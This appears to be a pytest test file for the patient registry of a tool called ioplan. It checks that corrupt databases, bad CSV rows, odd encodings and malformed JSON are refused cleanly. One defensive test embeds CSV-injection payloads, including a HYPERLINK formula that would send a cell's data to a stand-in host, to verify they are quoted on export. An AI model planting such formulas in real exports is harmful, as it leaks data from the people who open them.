"""Registry against careless and hostile input (issue 15): every case once broke it.

References are hand counts (rows written below), the OWASP CSV-injection guidance for the
quoted cells, the SQLite file format (a database starts with "SQLite format 3\\0"), and the
Kaplan-Meier estimate of the small cohort worked by hand in test_registry.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_registry import SMALL, counts, write_small

from conftest import assert_one_line_error, run_cli
from ioplan.errors import FileFormatError, IoplanError, OutputExistsError
from ioplan.registry import (
    RegistryImportError,
    export_csv,
    format_cell,
    import_csv,
    init_db,
    open_db,
    read_tables,
    session_scope,
)

PATIENTS_HEAD = SMALL["patients.csv"].splitlines()[0] + "\n"
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def empty_registry(tmp_path_factory) -> Path:
    """An initialised, empty SQLite registry: copied by tests instead of migrating again."""
    path = tmp_path_factory.mktemp("template") / "empty.sqlite"
    init_db(str(path)).dispose()
    return path


def fresh(template: Path, folder: Path) -> str:
    folder.mkdir(parents=True, exist_ok=True)
    db = folder / "registry.sqlite"
    shutil.copyfile(template, db)
    return str(db)


# ---------------------------------------------------------------------------- --db


def test_db_that_is_a_text_file_is_refused_and_kept(tmp_path, capsys):
    text = tmp_path / "notes.txt"
    text.write_text("my notes\n")
    for cmd in (["init"], ["report"], ["import", str(write_small(tmp_path / "csv"))]):
        code, _, err = run_cli(capsys, "registry", *cmd, "--db", text)
        assert_one_line_error(code, err, "not a SQLite database")
    assert text.read_text() == "my notes\n"  # untouched


def test_corrupt_sqlite_file_is_one_line(tmp_path, capsys, empty_registry):
    # A real registry whose pages after the 100-byte header are overwritten: the header says
    # SQLite, the rest is garbage (a damaged disk, a half-copied file).
    db = Path(fresh(empty_registry, tmp_path))
    data = bytearray(db.read_bytes())
    data[100:] = bytes((i * 7 + 3) % 256 for i in range(len(data) - 100))
    db.write_bytes(bytes(data))
    for cmd in (["init"], ["report"], ["export", str(tmp_path / "out")]):
        code, _, err = run_cli(capsys, "registry", *cmd, "--db", db)
        assert_one_line_error(code, err, "cannot open database")
    # A truncated file (first half of a registry) too.
    half = tmp_path / "half.sqlite"
    half.write_bytes(empty_registry.read_bytes()[:1500])
    code, _, err = run_cli(capsys, "registry", "report", "--db", half)
    assert_one_line_error(code, err, "cannot open database")


@pytest.mark.parametrize("db", ["", "  ", "sqlite://", "sqlite:///:memory:"])
def test_in_memory_database_is_refused(tmp_path, capsys, monkeypatch, db):
    monkeypatch.chdir(tmp_path)
    code, _, err = run_cli(capsys, "registry", "init", "--db", db)
    assert_one_line_error(code, err, "--db", "file path")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "cmd",
    [
        ["report"],
        ["export", "out"],
        ["delete-patient", "A", "--yes"],
        ["link-margin", "PA", "A1", "margin.json"],
    ],
)
def test_reading_commands_do_not_create_a_registry(tmp_path, capsys, monkeypatch, cmd):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "margin.json").write_text('{"minimal_margin_mm": 3, "technical_success": true}')
    code, _, err = run_cli(capsys, "registry", *cmd, "--db", "missing.sqlite")
    assert_one_line_error(code, err, "missing.sqlite", "ioplan registry init")
    assert not (tmp_path / "missing.sqlite").exists()
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------------------- outputs


def test_export_onto_a_file_is_refused(tmp_path, capsys, empty_registry):
    db = fresh(empty_registry, tmp_path)
    target = tmp_path / "export.csv"
    target.write_text("keep me\n")
    code, _, err = run_cli(capsys, "registry", "export", target, "--db", db)
    assert_one_line_error(code, err, "is a file", "folder")
    assert target.read_text() == "keep me\n"
    code, _, err = run_cli(capsys, "registry", "import", target, "--db", db)
    assert_one_line_error(code, err, "is a file", "folder")


def test_report_onto_a_file_and_demo_bad_options_refused_before_work(tmp_path, capsys):
    db = tmp_path / "r.sqlite"
    (tmp_path / "rep").write_text("x")
    code, _, err = run_cli(
        capsys, "registry", "report", "--db", db, "--out", tmp_path / "rep"
    )  # the database does not exist either: the cheap option check comes first
    assert_one_line_error(code, err, "is a file")
    code, _, err = run_cli(
        capsys, "registry", "demo", "--db", db, "--seed", "-1", "--out", tmp_path / "d"
    )
    assert_one_line_error(code, err, "--seed -1")
    assert not db.exists() and not (tmp_path / "d").exists()  # nothing made


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    patients=st.one_of(st.integers(max_value=0), st.integers(min_value=100_001)),
    seed=st.integers(min_value=-(10**6), max_value=10**6),
)
def test_demo_refuses_bad_numbers_before_making_anything(tmp_path_factory, capsys, patients, seed):
    tmp = tmp_path_factory.mktemp("demo")
    code, _, err = run_cli(
        capsys, "registry", "demo", "--db", tmp / "r.sqlite", "--out", tmp / "d",
        "--patients", patients, "--seed", seed,
    )  # fmt: skip
    assert_one_line_error(code, err, f"--patients {patients}")
    assert list(tmp.iterdir()) == []


# ---------------------------------------------------------------------------- --at-months


@pytest.fixture(scope="module")
def small_registry(tmp_path_factory, empty_registry) -> str:
    folder = tmp_path_factory.mktemp("small")
    db = fresh(empty_registry, folder)
    with session_scope(open_db(db)) as s:
        import_csv(s, write_small(folder / "csv"))
    return db


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    bad=st.one_of(
        st.floats(max_value=0.0),
        st.floats(min_value=240.0, exclude_min=True),
        st.just(float("nan")),
        st.text(alphabet="abc;:x", min_size=1, max_size=6),
    )
)
def test_at_months_out_of_range_is_one_line(capsys, small_registry, bad):
    text = bad if isinstance(bad, str) else repr(bad)
    code, out, err = run_cli(
        capsys, "registry", "report", "--db", small_registry, "--at-months", f"3,{text}"
    )
    assert_one_line_error(code, err, "--at-months")
    assert out == ""


@settings(
    max_examples=5, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(t=st.floats(min_value=0.01, max_value=11.5))
def test_at_months_survival_matches_hand_count(capsys, small_registry, t):
    code, out, _ = run_cli(
        capsys, "registry", "report", "--db", small_registry, "--json", "--at-months", repr(t)
    )
    assert code == 0
    doc = json.loads(out)
    (key,) = doc["survival"]
    # By hand (test_small_cohort_hand_counts): B dies at 151 days = 4.961 months of 30.4375
    # days, one of four at risk; nobody else dies before 11.5 months.
    expected = 1.0 if t < 151 / 30.4375 else 0.75
    assert doc["survival"][key]["estimate"] == pytest.approx(expected, abs=1e-12)


# ---------------------------------------------------------------------------- import rows


@pytest.mark.parametrize(
    ("cell", "field", "message"),
    [
        ("A9,M,1950,HCC,2999-01-01", "last_contact_on", "after today"),
        ("A9,M,1950,HCC,1899-12-31", "last_contact_on", "before 1900-01-01"),
        ("A9,M,1950,H\x00CC,", "diagnosis", "U+0000"),
        ("A9,M,1950,H\x1bCC,", "diagnosis", "U+001B"),
        ("A9,M,1950,H\u0085CC,", "diagnosis", "U+0085"),
        ("A9,M,1950," + "x" * 65 + ",", "diagnosis", "65 characters, at most 64"),
    ],
)
def test_bad_dates_and_control_characters_refused_by_row(
    tmp_path, empty_registry, cell, field, message
):
    db = fresh(empty_registry, tmp_path)
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "patients.csv").write_text(PATIENTS_HEAD + "A8,F,1960,HCC,\n" + cell + "\n")
    with pytest.raises(RegistryImportError) as info, session_scope(open_db(db)) as s:
        import_csv(s, folder)
    assert f"patients.csv row 3, field {field}: " in str(info.value)
    assert message in str(info.value)
    assert counts(open_db(db))["patients"] == 0  # row 2 was valid; nothing kept


def test_problem_list_is_not_glued_to_the_error(tmp_path, capsys, empty_registry):
    db = fresh(empty_registry, tmp_path)
    folder = tmp_path / "csv"
    folder.mkdir()
    # Rows 2 and 4 are bad (hand count: 2 problems); row 3 is fine.
    (folder / "patients.csv").write_text(
        PATIENTS_HEAD + "A1,M,1850,HCC,\nA2,F,1960,,\nA3,Q,1960,,\n"
    )
    code, out, err = run_cli(capsys, "registry", "import", folder, "--db", db, "--quiet")
    lines = err.splitlines()
    assert code == 2 and out == ""
    assert lines[0].startswith("error: ") and "2 problem(s)" in lines[0]
    assert "patients.csv row 2, field birth_year: 1850 is outside" in lines[1]
    assert "patients.csv row 4, field sex: 'Q' is not one of M, F, X" in lines[2]
    assert len(lines) == 3 and "Traceback" not in err
    # --json: the error is one line on stderr, the problems are JSON on stdout
    code, out, err = run_cli(capsys, "registry", "import", folder, "--db", db, "--quiet",
                             "--json")  # fmt: skip
    assert_one_line_error(code, err, "2 problem(s)")
    doc = json.loads(out)
    assert doc["total_problems"] == 2 and len(doc["problems"]) == 2
    assert "row 2, field birth_year" in doc["problems"][0]
    assert "row 4, field sex" in doc["problems"][1]


@pytest.mark.parametrize("chunk_rows", [1, 2, 5000])
def test_streamed_import_same_at_any_chunk_size(tmp_path, empty_registry, chunk_rows):
    db = fresh(empty_registry, tmp_path)
    seen: list[tuple[str, int, int]] = []
    with session_scope(open_db(db)) as s:
        rep = import_csv(
            s,
            write_small(tmp_path / "csv"),
            progress=lambda *a: seen.append(a),
            chunk_rows=chunk_rows,
        )
    # Hand count of the rows of SMALL: 4 + 6 + 5 + 7 + 9 + 12 + 2 + 1 = 46.
    assert rep.to_dict()["total"] == 46
    assert counts(open_db(db))["lesion_responses"] == 12
    done = [d for _, d, _ in seen]
    assert done == sorted(done) and done[-1] == 46 and {t for *_, t in seen} == {46}
    if chunk_rows == 1:
        assert len(seen) >= 46  # one call per row (and one at the end)
    # Problems across chunk boundaries keep their rows: a duplicate 5 rows below its first.
    bad = tmp_path / "bad"
    write_small(bad, **{"lesions.csv": SMALL["lesions.csv"] + "B1,B,liver,4,30,HCC,8\n"})
    db2 = fresh(empty_registry, tmp_path / "second")
    with pytest.raises(RegistryImportError) as info, session_scope(open_db(db2)) as s:
        import_csv(s, bad, chunk_rows=chunk_rows)
    assert "lesions.csv row 8, field lesion_key: duplicate key 'B1': also on row 4" in str(
        info.value
    )
    assert info.value.total == 1


def test_progress_is_quiet_off_a_terminal(tmp_path, capsys, empty_registry):
    db = fresh(empty_registry, tmp_path)
    code, out, err = run_cli(capsys, "registry", "import", write_small(tmp_path / "c"), "--db", db)
    assert code == 0 and err == ""  # capsys is no terminal: no bar
    assert out.startswith("imported 46 rows")


# ---------------------------------------------------------------------------- formula cells


def test_formula_cells_are_quoted_and_round_trip(tmp_path, empty_registry):
    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
    folder = write_small(
        tmp_path / "csv",
        **{
            "patients.csv": SMALL["patients.csv"]
            + f'E,M,1950,"{hostile.replace(chr(34), 2 * chr(34))}",\n'
            "F,F,1951,+cmd,\nG,M,1952,-2+3,\nH,F,1953,@SUM(1),\nI,M,1954,''=twice,\n"
            "J,F,1955,'=once,\nK,M,1956,'plain,\n",
        },
    )
    db = fresh(empty_registry, tmp_path)
    with session_scope(open_db(db)) as s:
        import_csv(s, folder)
    with session_scope(open_db(db)) as s:
        export_csv(s, tmp_path / "out1")
    with (tmp_path / "out1" / "patients.csv").open(newline="") as fh:
        diag = {r["patient_key"]: r["diagnosis"] for r in csv.DictReader(fh)}
    # OWASP: a cell starting with = + - @ gets a leading single quote.
    assert diag["E"] == "'" + hostile
    assert (diag["F"], diag["G"], diag["H"]) == ("'+cmd", "'-2+3", "'@SUM(1)")
    # A quoted cell read in is taken as exported: one quote less in the registry, and the
    # same cell written back; a quote before ordinary text is text.
    assert (diag["I"], diag["J"], diag["K"]) == ("''=twice", "'=once", "'plain")
    assert diag["A"] == "HCC"
    # Numbers are not text: B1's margin of -1.0 mm is written as a number.
    treated = (tmp_path / "out1" / "treated_lesions.csv").read_text()
    assert "PB,B1,no,-1.0\n" in treated
    # Import undoes exactly the quote: the stored text is the original.
    with open_db(db).connect() as conn:
        stored = dict(conn.execute(sa.text("SELECT patient_key, diagnosis FROM patients")).all())
    assert (stored["E"], stored["I"], stored["J"]) == (hostile, "'=twice", "=once")
    db2 = fresh(empty_registry, tmp_path / "second")
    with session_scope(open_db(db2)) as s:
        import_csv(s, tmp_path / "out1")
    with session_scope(open_db(db2)) as s:
        export_csv(s, tmp_path / "out2")
    for f in (tmp_path / "out1").glob("*.csv"):
        assert (tmp_path / "out2" / f.name).read_bytes() == f.read_bytes(), f.name


_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")),
    max_size=20,
).map(str.strip)
_DATE = st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date.today())


@settings(
    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    rows=st.lists(
        st.tuples(
            st.sampled_from(["M", "F", "X", None]),
            st.one_of(st.none(), st.integers(1900, dt.date.today().year)),
            st.one_of(
                st.none(),
                _TEXT.filter(lambda s: len(s) <= 64),
                st.sampled_from(["=1+1", "-x", "@a", "+"]),
            ),
            st.one_of(st.none(), _DATE),
        ),
        min_size=1,
        max_size=8,
    )
)
def test_generated_patients_import_and_round_trip(tmp_path_factory, empty_registry, rows):
    tmp = tmp_path_factory.mktemp("gen")
    folder = tmp / "csv"
    folder.mkdir()
    with (folder / "patients.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(["patient_key", "sex", "birth_year", "diagnosis", "last_contact_on"])
        for i, (sex, year, diag, date) in enumerate(rows):
            w.writerow([f"K{i}", sex or "", year or "", format_cell(diag or None), date or ""])
    db = fresh(empty_registry, tmp)
    with session_scope(open_db(db)) as s:
        import_csv(s, folder)
    with open_db(db).connect() as conn:
        got = conn.execute(
            sa.text("SELECT sex, birth_year, diagnosis, last_contact_on FROM patients ORDER BY id")
        ).all()
    for (sex, year, diag, date), g in zip(rows, got, strict=True):
        assert (g[0], g[1], g[2]) == (sex, year, diag or None)
        assert (None if g[3] is None else str(g[3])) == (None if date is None else date.isoformat())
    with session_scope(open_db(db)) as s:
        export_csv(s, tmp / "out")
    assert (tmp / "out" / "patients.csv").read_bytes() == (folder / "patients.csv").read_bytes()


_BAD = {  # field -> a value the column refuses
    "sex": "male",
    "birth_year": "1850",
    "diagnosis": "a\x00b",
    "last_contact_on": "2999-12-31",
}


@settings(max_examples=20, deadline=None)
@given(n=st.integers(1, 6), data=st.data())
def test_generated_bad_value_reported_at_its_row_and_field(n, data):
    import tempfile

    where = data.draw(st.integers(0, n - 1))
    field = data.draw(st.sampled_from(sorted(_BAD)))
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        lines = [f"K{i},F,1960,HCC,2020-01-01" for i in range(n)]
        cells = lines[where].split(",")
        cells[["patient_key", *_BAD].index(field)] = _BAD[field]
        lines[where] = ",".join(cells)
        (folder / "patients.csv").write_text(PATIENTS_HEAD + "\n".join(lines) + "\n")
        tables, errors = read_tables(folder)
    assert [(e.row, e.field) for e in errors] == [(where + 2, field)]  # header is row 1
    assert len(tables["patients.csv"]) == n - 1


# ---------------------------------------------------------------------------- corrupt files


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (
            "patient_key,sex\nA,M\nB\xe9,F\n".encode("latin-1"),
            "not UTF-8 text (byte 0xe9 on line 3)",
        ),
        (bytes(range(256)) * 4, "not UTF-8 text"),
        (PATIENTS_HEAD.encode() + "A,M,1950,caf\u00e9".encode()[:-1], "ends inside a character"),
    ],
)
def test_non_utf8_csv_is_one_line(tmp_path, capsys, empty_registry, content, fragment):
    db = fresh(empty_registry, tmp_path)
    folder = write_small(tmp_path / "csv")
    (folder / "patients.csv").write_bytes(content)
    before = counts(open_db(db))
    code, _, err = run_cli(capsys, "registry", "import", folder, "--db", db)
    assert_one_line_error(code, err, "patients.csv", fragment)
    assert counts(open_db(db)) == before


def test_truncated_csv_reports_the_cut_row(tmp_path, empty_registry):
    db = fresh(empty_registry, tmp_path)
    folder = write_small(tmp_path / "csv")
    text = SMALL["procedures.csv"]
    # Cut inside the quoted settings of row 2: the open quote swallows the rest of the file,
    # and the row has 7 cells (PA, A, the date, MWA, CT, Emprint, the cut settings).
    (folder / "procedures.csv").write_text(text[: text.index("power_w") + 3])
    # Last row "D1,D,liver,2,22,CRC," cut to "D1,D,liver,2": 4 cells.
    (folder / "lesions.csv").write_text(SMALL["lesions.csv"][:-9])
    with pytest.raises(RegistryImportError) as info, session_scope(open_db(db)) as s:
        import_csv(s, folder)
    msg = str(info.value)
    assert "lesions.csv row 7: 4 cells, the header has 7" in msg
    assert "procedures.csv row 2: 7 cells, the header has 9" in msg
    assert counts(open_db(db))["patients"] == 0


def test_binary_garbage_that_is_utf8_is_refused_by_header(tmp_path, empty_registry):
    db = fresh(empty_registry, tmp_path)
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "patients.csv").write_text("\x7fELF\x02\x01,\x00\x00\n\x00\x00\x00\n")
    with pytest.raises(RegistryImportError) as info, session_scope(open_db(db)) as s:
        import_csv(s, folder)
    assert "patients.csv row 1, field patient_key: required column is missing" in str(info.value)


def test_margin_json_that_is_not_json_is_one_line(tmp_path, capsys, small_registry):
    for name, content in [
        ("bin.json", bytes(range(256))),
        ("list.json", b"[1, 2]"),
        ("null.json", b'{"minimal_margin_mm": null, "technical_success": true}'),
        ("text.json", b'{"minimal_margin_mm": 3, "technical_success": "no"}'),
        ("huge.json", b'{"minimal_margin_mm": 1e300, "technical_success": true}'),
    ]:
        (tmp_path / name).write_bytes(content)
        code, _, err = run_cli(
            capsys, "registry", "link-margin", "PA", "A1", tmp_path / name, "--db", small_registry
        )
        assert_one_line_error(code, err, name)
        assert "None" not in err and "NoneType" not in err  # the user's words: null, not None


def test_link_margin_checks_the_plan_it_records(tmp_path, capsys, small_registry):
    """--plan-json took any JSON ({} or the margin.json itself) as the procedure's plan."""
    margin = tmp_path / "margin.json"
    margin.write_text('{"minimal_margin_mm": 5.0, "technical_success": true}')
    plan = {"modality": "cryo", "applicators": [], "margin_coverage_percent": 99.5}
    cases = {"empty.json": "{}", "margin.json": margin.read_text(),
             "cryo.json": json.dumps(plan)}  # fmt: skip
    for name, text in cases.items():
        (tmp_path / f"p-{name}").write_text(text)
        code, _, err = run_cli(capsys, "registry", "link-margin", "PA", "A1", margin, "--plan-json",
                               tmp_path / f"p-{name}", "--db", small_registry)  # fmt: skip
        frag = "plans a cryo ablation" if name == "cryo.json" else "not a plan.json"
        assert_one_line_error(code, err, frag)
    (tmp_path / "mwa.json").write_text(json.dumps(plan | {"modality": "mwa"}))  # PA is MWA
    code, _, err = run_cli(capsys, "registry", "link-margin", "PA", "A1", margin, "--plan-json",
                           tmp_path / "mwa.json", "--db", small_registry)  # fmt: skip
    assert code == 0, err


def test_link_margin_refuses_to_replace_without_overwrite(tmp_path, small_registry):
    from ioplan.registry import link_margin

    (tmp_path / "m.json").write_text('{"minimal_margin_mm": 7.5, "technical_success": true}')
    engine = open_db(small_registry)
    with pytest.raises(OutputExistsError, match="--overwrite"), session_scope(engine) as s:
        link_margin(s, "PA", "A1", tmp_path / "m.json")
    with engine.connect() as conn:  # A1's 5.0 mm of treated_lesions.csv is kept
        kept = conn.execute(
            sa.text(
                "SELECT minimal_margin_mm FROM treated_lesions t JOIN lesions l "
                "ON t.lesion_id = l.id WHERE l.lesion_key = 'A1'"
            )
        ).scalar_one()
    assert kept == 5.0


def test_init_on_a_foreign_database_writes_nothing_to_it(tmp_path, capsys):
    """A failed init left an alembic_version table in the user's own SQLite file."""
    import sqlite3

    path = tmp_path / "mine.sqlite"
    con = sqlite3.connect(path)
    con.execute("create table patients(name text, mrn text)")
    con.commit()
    con.close()
    before = path.read_bytes()
    code, _, err = run_cli(capsys, "registry", "init", "--db", path)
    assert_one_line_error(code, err, "no ioplan schema revision", "nothing was written")
    assert path.read_bytes() == before


def test_library_errors_are_ioplan_errors(tmp_path):
    with pytest.raises(FileFormatError):
        (tmp_path / "x.sqlite").write_text("hello")
        open_db(str(tmp_path / "x.sqlite"))
    with pytest.raises(IoplanError):
        open_db(str(tmp_path / "none.sqlite"), create=False)


# ---------------------------------------------------------------------------- benchmark


def test_benchmark_script_smoke(tmp_path):
    out = tmp_path / "bench.json"
    proc = subprocess.run(
        [sys.executable, str(ROOT / "bench" / "registry_import.py"), "--rows", "60",
         "--cache", str(tmp_path / "cohort"), "--out", str(out)],
        capture_output=True, text=True, cwd=ROOT, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(out.read_text())
    # Rows by hand: the data lines of the CSV files written (header excluded).
    lines = sum(len(p.read_text().splitlines()) - 1 for p in (tmp_path / "cohort").glob("*.csv"))
    assert doc["rows"] == lines > 0
    assert doc["import_s"] > 0 and doc["peak_rss_mib"] > 10  # a Python process is > 10 MiB
